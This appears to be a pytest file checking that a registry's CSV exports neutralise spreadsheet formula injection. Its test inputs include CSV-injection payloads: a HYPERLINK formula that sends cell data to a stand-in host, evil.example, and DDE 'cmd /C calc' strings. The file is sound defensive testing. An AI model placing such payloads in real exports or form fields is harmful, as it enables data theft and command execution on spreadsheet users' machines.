"""Issue 16, exports: a CSV cell that a spreadsheet would run as a formula is written as text.

The public retirements export carried a beneficiary ``=HYPERLINK(...)`` as a live formula; every
CSV is now written by ``tanhui.spreadsheets.csv_writer``, which prefixes such cells with ``'``.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

from fastapi.testclient import TestClient
from sqlmodel import Session

from registry.models import RetirementPurpose
from registry.service import retirements, transfers
from tanhui import spreadsheets
from tests.registry import helpers

ROOT = Path(__file__).resolve().parents[2]
HOSTILE_NAMES = (
    '=HYPERLINK("http://evil.example/?"&A1,"证书")',
    "+86-571-0000",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
)


def test_public_retirements_csv_carries_no_live_formula(
    client: TestClient, session: Session
) -> None:
    roles = helpers.Roles.make(session)
    batch = helpers.issued_batch(session, roles)
    assert roles.enterprise.organisation_id is not None
    transfers.transfer(
        session,
        actor=roles.coop,
        batch_id=batch.id,
        to_organisation_id=roles.enterprise.organisation_id,
        quantity_t=300,
    )
    for name in HOSTILE_NAMES:
        retirements.retire(
            session,
            actor=roles.enterprise,
            batch_id=batch.id,
            quantity_t=1,
            beneficiary=name,
            purpose=RetirementPurpose.annual_neutrality,
        )
    session.commit()
    exported = client.get("/api/v1/public/retirements", headers={"Accept": "text/csv"})
    assert exported.status_code == 200
    rows = list(csv.DictReader(io.StringIO(exported.text)))
    assert {row["beneficiary"] for row in rows} == {"'" + name for name in HOSTILE_NAMES}
    assert all(int(row["quantity_t"]) == 1 for row in rows)  # numbers stay numbers
    # the JSON answer keeps the name exactly as given
    listed = client.get("/api/v1/public/retirements").json()["items"]
    assert {item["beneficiary"] for item in listed} == set(HOSTILE_NAMES)


def test_tab_and_carriage_return_prefixes_are_neutralised_too() -> None:
    """(Beneficiaries are stripped before they are kept; other text cells may keep them.)"""
    buffer = io.StringIO()
    spreadsheets.csv_writer(buffer).writerow(["\t=1+1", "\r=1+1", "plain", -5, "-5", "a=b"])
    assert next(csv.reader(io.StringIO(buffer.getvalue()))) == [
        "'\t=1+1",
        "'\r=1+1",
        "plain",
        "-5",  # a number we wrote is left alone
        "'-5",  # a text cell is not
        "a=b",
    ]


def test_every_csv_is_written_by_the_one_helper() -> None:
    """A new export cannot bypass the neutralising writer: ``csv.writer``/``DictWriter`` appear
    only in ``tanhui/spreadsheets.py``."""
    pattern = re.compile(r"\bcsv\.(writer|DictWriter)\b|\bfrom csv import\b")
    offenders = [
        str(path.relative_to(ROOT))
        for package in ("tanhui", "registry", "market", "wallet", "mrv", "frontend")
        for path in (ROOT / package).rglob("*.py")
        if pattern.search(path.read_text(encoding="utf-8"))
        and path != ROOT / "tanhui" / "spreadsheets.py"
    ]
    assert offenders == []
